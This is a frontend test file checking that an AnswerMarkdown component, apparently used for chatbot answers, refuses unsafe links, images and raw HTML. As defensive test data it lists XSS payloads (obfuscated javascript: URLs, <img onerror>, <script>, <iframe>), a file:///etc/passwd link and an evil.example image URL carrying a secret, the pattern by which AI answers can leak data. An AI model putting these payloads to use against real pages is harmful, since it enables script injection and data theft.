import { render, screen } from "@testing-library/react";
import { beforeAll, describe, expect, it } from "vitest";
import { AnswerMarkdown } from "./answer-markdown.tsx";
import { renderMd, SOURCES } from "./answer-markdown-test-kit.tsx";
import { loadHighlight } from "./highlight-loader.ts";
import { loadMath } from "./math-loader.ts";

// KaTeX and the highlighter are downloaded on the first answer with math or code
// (math-loader.test.tsx, highlight-loader.test.tsx); here they are in.
beforeAll(() => Promise.all([loadMath(), loadHighlight()]));

/** What an answer may link to, load as an image and pass through as HTML. */
describe("AnswerMarkdown: link policy", () => {
  it("renders http(s) links as external links", () => {
    const root = renderMd("[site](https://example.com/a)");
    const a = root.querySelector("a");
    expect(a?.getAttribute("href")).toBe("https://example.com/a");
    expect(a?.getAttribute("target")).toBe("_blank");
    expect(a?.getAttribute("rel")).toBe("noopener noreferrer nofollow ugc");
  });

  it("renders mailto links without target", () => {
    const a = renderMd("[mail](mailto:a@example.com)").querySelector("a");
    expect(a?.getAttribute("href")).toBe("mailto:a@example.com");
    expect(a?.hasAttribute("target")).toBe(false);
  });

  it.each([
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](jav&#x09;ascript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](<java\tscript:alert(1)>)",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x](file:///etc/passwd)",
    "[x](//evil.example)",
    "[x](/relative)",
    "[x](#frag)",
    "[x]: javascript:alert(1)\n\n[x]",
    "<javascript:alert(1)>",
  ])("%s has no link", (markdown) => {
    const root = renderMd(markdown);
    expect(root.querySelector("a")).toBeNull();
    expect(root.querySelector("[href]")).toBeNull();
  });

  it("keeps the text of a refused link", () => {
    expect(renderMd("[click me](javascript:alert(1))")).toHaveTextContent("click me");
  });
});

describe("AnswerMarkdown: image policy", () => {
  const SIGNED = "/api/image?u=https%3A%2F%2Fimg.example%2Fchart.png&s=abcdefghijklmnopqrstuv";

  it.each([SIGNED, `${window.location.origin}${SIGNED}`])(
    "loads an image of the message's sources through the image proxy (%s) lazily without referrer",
    (src) => {
      render(<AnswerMarkdown markdown={`![chart](${src})`} sources={SOURCES} images={[SIGNED]} />);
      const img = screen.getByTestId("answer-markdown").querySelector("img");
      expect(img?.getAttribute("src")).toBe(SIGNED);
      expect(img?.getAttribute("loading")).toBe("lazy");
      expect(img?.getAttribute("referrerpolicy")).toBe("no-referrer");
    },
  );

  it.each([
    ["a signed proxy URL no source carried", `![chart](${SIGNED})`],
    ["with a title", `![chart](${SIGNED} "title")`],
    ["reference style", `![chart][pic]\n\n[pic]: ${SIGNED}`],
    ["absolute, on this origin", `![chart](${window.location.origin}${SIGNED})`],
    [
      "another signature of the same address",
      `![chart](${SIGNED.replace("abcdefghijklmnopqrstuv", "vutsrqponmlkjihgfedcba")})`,
    ],
  ])("never loads %s: an inert chip, no link to the proxy", (_name, markdown) => {
    for (const images of [
      undefined,
      ["/api/image?u=https%3A%2F%2Fother.example%2Fa.png&s=abcdefghijklmnopqrstuv"],
    ]) {
      const { unmount } = render(
        <AnswerMarkdown markdown={markdown} sources={SOURCES} images={images} />,
      );
      const root = screen.getByTestId("answer-markdown");
      expect(root.querySelector("img")).toBeNull();
      expect(root.querySelector("[href*='api/image']")).toBeNull();
      expect(root).toHaveTextContent("Image: chart (blocked)");
      unmount();
    }
  });

  it("loads a shared document's own image only when listed, never one of another shape", () => {
    const own = `/api/shares/d${"A".repeat(22)}/images/00000000-0000-4000-8000-000000000001`;
    const listed = render(
      <AnswerMarkdown markdown={`![chart](${own})`} sources={[]} images={[own]} />,
    );
    expect(screen.getByTestId("answer-markdown").querySelector("img")?.getAttribute("src")).toBe(
      own,
    );
    listed.unmount();
    for (const markdown of [`![chart](${own})`, `![chart](${own}/../../x)`]) {
      const { unmount } = render(<AnswerMarkdown markdown={markdown} sources={[]} images={[]} />);
      expect(screen.getByTestId("answer-markdown").querySelector("img")).toBeNull();
      unmount();
    }
  });

  it("loads a source's own favicon named in the text (a source carried it)", () => {
    const favicon = SOURCES[0]?.favicon ?? "";
    const root = renderMd(`![icon](${favicon})`);
    expect(root.querySelector("img")?.getAttribute("src")).toBe(favicon);
  });

  it("shows any other same-origin address as a chip, not an image", () => {
    const root = renderMd(`![chart](${window.location.origin}/api/files/chart.png)`);
    expect(root.querySelector("img")).toBeNull();
    expect(root.querySelector("[data-blocked-image]")).not.toBeNull();
  });

  it("shows a relative address other than the proxy as an inert chip", () => {
    const root = renderMd("![chart](/api/me)");
    expect(root.querySelector("img")).toBeNull();
    expect(root).toHaveTextContent("Image: chart (blocked)");
  });

  it("shows a third-party image as a link chip, never an <img>", () => {
    const root = renderMd("![secret chart](https://evil.example/x.png?d=SECRET)");
    expect(root.querySelector("img")).toBeNull();
    const chip = root.querySelector("a[data-blocked-image]");
    expect(chip).toHaveTextContent("Image: secret chart (evil.example)");
    expect(chip?.getAttribute("href")).toBe("https://evil.example/x.png?d=SECRET");
    expect(chip?.getAttribute("rel")).toBe("noopener noreferrer nofollow ugc");
    expect(root.innerHTML).not.toContain("srcset");
    expect(root.innerHTML).not.toContain("background");
  });

  it.each([
    "![x](data:image/png;base64,iVBORw0KGgo=)",
    "![x](javascript:alert(1))",
    "![x](//evil.example/a.png)",
  ])("%s is an inert chip", (markdown) => {
    const root = renderMd(markdown);
    expect(root.querySelector("img")).toBeNull();
    expect(root.querySelector("[href]")).toBeNull();
    expect(root).toHaveTextContent("Image: x (blocked)");
  });

  it("does not nest a link inside a link for a linked image", () => {
    const root = renderMd("[![alt](https://evil.example/a.png)](https://example.com)");
    expect(root.querySelectorAll("a")).toHaveLength(1);
    expect(root.querySelector("a a")).toBeNull();
  });
});

describe("AnswerMarkdown: raw HTML", () => {
  it.each([
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<iframe src=https://evil.example></iframe>",
    "text <b onclick=alert(1)>bold</b> text",
    "<div>\n\n**md inside**\n\n</div>",
    "<style>body{display:none}</style>",
    "<a href=javascript:alert(1)>x</a>",
  ])("%s stays inert text", (markdown) => {
    const root = renderMd(markdown);
    for (const tag of ["script", "img", "iframe", "b", "div div", "style", "a"]) {
      expect(root.querySelector(tag)).toBeNull();
    }
    expect(root.textContent).toContain("<");
  });
});
